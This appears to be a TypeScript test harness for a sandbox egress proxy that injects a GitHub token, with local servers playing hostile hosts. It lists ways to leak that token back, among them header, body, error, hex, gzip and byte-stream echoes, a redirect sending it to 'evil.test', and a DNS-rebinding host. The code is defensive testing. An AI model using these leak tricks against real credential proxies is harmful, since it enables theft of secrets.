import { randomBytes } from 'node:crypto';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { text } from 'node:stream/consumers';
import { gzipSync } from 'node:zlib';
import type { EventData, SandboxSpec } from '../../../src/contracts/index.ts';
import type { ProbedSandbox } from '../../../src/sandbox/probe/index.ts';
import { EgressRig, trusted } from '../../support/egress.ts';
import { type Kind, openWorld } from '../../support/sandbox-kinds.ts';
import type { SandboxWorld } from '../../support/sandbox-world.ts';
import { probedSandbox } from '../places.ts';
import { CarelessWayOut } from './careless-way-out.ts';

const FOLDER = '/tmp/.glovebox';
/** Where a path of the server that has the credential tells it back, and how. */
export const REFLECTIONS: Readonly<Record<string, (response: ServerResponse, token: string) => void>> = {
  header: (response, token) => response.writeHead(200, { 'x-echo': `it was ${token}` }).end(),
  body: (response, token) => response.end(`you sent ${token}!`),
  error: (response, token) => response.writeHead(401).end(JSON.stringify({ message: `bad token ${token}` })),
  hex: (response, token) => response.end(Buffer.from(token).toString('hex')),
  redirect: (response, token) => response.writeHead(302, { location: `https://evil.test/?t=${encodeURIComponent(token)}` }).end(),
  bytes: (response, token) => {
    const bytes = [...`before ${token} after`];
    const next = (): void => {
      const byte = bytes.shift();
      if (byte === undefined) response.end();
      else response.write(byte, () => setImmediate(next));
    };
    next();
  },
  gzip: (response, token) => response.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(token)),
};

/** A real sandbox, its way out under a real policy, and servers on this machine that wish it ill. */
export class HostileWorld implements AsyncDisposable {
  readonly rig = new EgressRig();
  readonly secret = `ghp_${randomBytes(18).toString('hex')}`;
  /** A credential of another session, and what stands for it there. */
  readonly foreign = { secret: `ghp_${randomBytes(18).toString('hex')}`, placeholder: `ghp_${randomBytes(18).toString('hex')}` };
  placeholder = '';
  /** Everything that came to servers that policy opens, first lines, headers and bodies. */
  readonly seen: string[] = [];
  /** What came to the one that it does not. */
  readonly heard: string[] = [];
  readonly ports = { plain: 0, secure: 0, other: 0, raw: 0, denied: 0 };
  probed!: ProbedSandbox;
  #world: SandboxWorld | undefined;

  /** Without its protection where it is careless: the same sandbox, and a way out that believes everybody. */
  static async open(kind: Kind, { careless }: { readonly careless: boolean }): Promise<HostileWorld> {
    const hostile = new HostileWorld();
    try {
      await hostile.#serve();
      await hostile.#begin(kind, careless);
      return hostile;
    } catch (error) {
      await hostile[Symbol.asyncDispose]();
      throw error;
    }
  }

  get url(): string {
    return `http://up.test:${this.ports.plain}`;
  }

  get secureUrl(): string {
    return `https://up.test:${this.ports.secure}`;
  }

  anomalies(): EventData['anomaly.raised'][] {
    return this.rig.events.flatMap((event) => (event.type === 'anomaly.raised' ? [event.data] : []));
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await (this.probed as ProbedSandbox | undefined)?.[Symbol.asyncDispose]();
    await this.#world?.[Symbol.asyncDispose]();
    await this.rig[Symbol.asyncDispose]();
  }

  async #serve(): Promise<void> {
    const { rig, ports } = this;
    const serve = (request: IncomingMessage, response: ServerResponse): void => void this.#answer(request, response);
    ports.plain = await rig.http(serve);
    ports.secure = await rig.https(serve);
    ports.other = await rig.https(serve);
    ports.denied = await rig.http((request, response) => {
      this.heard.push(`${request.method} ${request.headers.host}${request.url}`);
      response.end('reached');
    });
    ports.raw = await rig.raw((socket) => {
      socket.on('data', (bytes: Buffer) => {
        this.seen.push(bytes.toString('latin1'));
        socket.write('HTTP/1.1 200 OK\r\ncontent-length: 7\r\n\r\nreached');
      });
      socket.on('end', () => socket.end());
    });
    for (const name of ['up.test', 'other.test', 'raw.test', 'denied.test', 'home.test']) rig.names.set(name, [['127.0.0.1']]);
    // The address of another place altogether, for whoever asks twice.
    rig.names.set('rebind.test', [['127.0.0.1'], ['127.0.0.2']]);
    rig.secrets.set('github', this.secret);
  }

  async #answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const body = await text(request).catch(() => 'broken off');
    const { authorization = '' } = request.headers;
    this.seen.push([`${request.method} ${request.url}`, ...request.rawHeaders, authorization.startsWith('Basic ') ? Buffer.from(authorization.slice(6), 'base64').toString('latin1') : '', body].join('\n'));
    const reflect = REFLECTIONS[(request.url ?? '').split('/').at(-1) ?? ''];
    if (request.url === '/moved') response.writeHead(307, { location: `http://denied.test:${this.ports.denied}/` }).end();
    else if (reflect === undefined) response.end('ok');
    else reflect(response, authorization.replace('Bearer ', ''));
  }

  async #begin(kind: Kind, careless: boolean): Promise<void> {
    const { rig, ports } = this;
    const opened = [['up.test', ports.plain], ['up.test', ports.secure], ['other.test', ports.other], ['raw.test', ports.raw], ['rebind.test', ports.plain], ['"*.meta.test"', 80]].map(([host, port]) => `{ host: ${host}, port: ${port}, private: true }`);
    const binding = `{ host: up.test, port: ${ports.secure}, methods: [GET, POST], paths: ["/repos/acme/**"] }`;
    await rig.open(`network: [${opened.join(', ')}, { host: home.test, port: ${ports.denied} }]\ncredentials: [{ id: github, placeholder: GITHUB_TOKEN, bind: ${binding} }]\ncanaries: true\negress: { requests: 100000, rate: 10000 }\n`);
    const { files, env, ports: names } = rig.egress.provisions(FOLDER);
    this.placeholder = env['GITHUB_TOKEN'] ?? '';
    const way = careless ? new CarelessWayOut(this, trusted) : rig.egress;
    if (careless) rig.trusts = trusted.certificate;
    this.#world = openWorld(kind);
    const { driver } = this.#world;
    const given = careless ? { ...env, GITHUB_TOKEN: this.secret } : env;
    this.probed = await probedSandbox(this.#world, {
      wayOut: { host: 'up.test', port: ports.plain, journal: () => JSON.stringify(rig.events) },
      create: async (spec: SandboxSpec) => {
        const sandbox = await driver.create({ ...spec, network: { ports: [...names, ports.denied] }, env: { ...given, ...spec.env } });
        for (const [path, bytes] of Object.entries(files)) await sandbox.files.write(path, bytes, { parents: true, mode: 0o644 });
        sandbox.serveNetwork((connection) => way.accept(connection));
        return sandbox;
      },
    });
    rig.program = (host, port) => this.probed.place.connect(host, port);
  }
}
